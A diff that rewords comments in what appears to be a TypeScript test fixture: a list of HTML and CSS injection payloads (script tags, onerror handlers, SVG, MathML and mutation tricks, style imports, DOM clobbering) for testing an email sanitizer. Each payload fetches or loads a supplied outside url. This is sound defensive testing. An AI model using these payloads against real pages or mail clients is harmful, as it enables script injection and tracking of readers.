@@ -2,26 +2,26 @@
 export interface Attack {
   readonly name: string;
   /**
-   * The content of the letter; everything that it manages to run or load requests an address below `url`,
-   * which is another host.
+   * The content of the letter; whatever it manages to run or load requests an address below `url`, which is
+   * another host.
    */
   readonly html: (url: string) => string;
-  /** Shown as it is, by a page without a policy, it reaches the other host with no act of the reader: the attack is one. */
-  readonly works: boolean;
   /**
-   * It is aimed at the own server, from which the frame loads pictures: only the cleaning protects against
-   * it.
+   * Shown unchanged, on a page without a policy, it reaches the other host without an act of the reader,
+   * which proves the attack.
    */
+  readonly works: boolean;
+  /** It targets the own server, from which the frame may load pictures: only the cleaning protects against it. */
   readonly isOwn?: true;
 }
 
 const works = (name: string, html: (url: string) => string): Attack => ({ name, html, works: true });
-/** Waits for a click, is aimed at older browsers or at the cleaning itself. */
+/** It waits for a click, or targets older browsers or the cleaning itself. */
 const lurks = (name: string, html: (url: string) => string): Attack => ({ name, html, works: false });
-/** A picture that is not there and what runs for it. */
+/** A missing picture, whose error handler runs the attack. */
 const broken = (url: string) => `<img src=x onerror="fetch('${url}')">`;
 
-/** Attacks on the reader of a letter: the cleaning is tested with them, and the page with real letters. */
+/** Attacks on the reader of a letter: both the cleaning and the page with real letters are tested with them. */
 export const attacks: readonly Attack[] = [
   // Scripts and handlers.
   works('script', (url) => `<script>fetch('${url}')</script>`),
@@ -57,7 +57,7 @@ export const attacks: readonly Attack[] = [
     (url) => `<svg><use href="${url}#x"/><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
   ),
   lurks('mathml-link', (url) => `<math><mtext href="javascript:fetch('${url}')">x</mtext></math>`),
-  // Sources that become something else when they are parsed again.
+  // Sources that change their meaning when they are parsed again.
   works(
     'mutation-by-mathml',
     (url) =>
@@ -85,7 +85,7 @@ export const attacks: readonly Attack[] = [
     'template-of-a-shadow',
     (url) => `<div><template shadowrootmode="open"><img src="${url}"></template></div>`,
   ),
-  // Sheets.
+  // Style sheets.
   works('import', (url) => `<style>@import url(${url});</style>`),
   works('import-of-a-string', (url) => `<style>@import "${url}";</style>`),
   works('import-in-escapes', (url) => `<style>@\\69mport "${url}";</style>`),
@@ -103,7 +103,7 @@ export const attacks: readonly Attack[] = [
     (url) =>
       `<p style="width:expression(fetch('${url}'));-moz-binding:url(${url}#x);behavior:url(${url})">x</p>`,
   ),
-  // Addresses that load by themselves.
+  // Addresses that are loaded automatically.
   works('picture', (url) => `<img src="${url}">`),
   works('picture-without-scheme', (url) => `<img src="${url.replace('http:', '')}">`),
   works('picture-with-backslashes', (url) => `<img src="${url.replace('//', '\\\\')}">`),
@@ -166,7 +166,7 @@ export const attacks: readonly Attack[] = [
       `<form id=x><input name=attributes><input name=parentNode></form><img name=getElementById><a id=body href="${url}">x</a><img id=documentElement name=documentElement><iframe name=top></iframe>`,
   ),
   works('deep-nesting', (url) => `${'<div>'.repeat(250)}${broken(url)}${'</div>'.repeat(250)}`),
-  // Names by which a letter refers to its own files.
+  // Content ids by which a letter refers to its own files.
   lurks(
     'odd-names-of-files',
     (url) =>
@@ -202,7 +202,7 @@ export function findFaults(root: ParentNode): string[] {
     src: (value) => !value.startsWith('data:image/') && !value.startsWith('/files/'),
     target: (value) => value !== '_blank',
     id: (value) => !value.startsWith('letter-'),
-    // The page would read the element where it looks for a part of the document.
+    // The page would take the element for a property of the document with this name.
     name: (value) => value in document,
   };
   const nodes = [...root.querySelectorAll('*')];
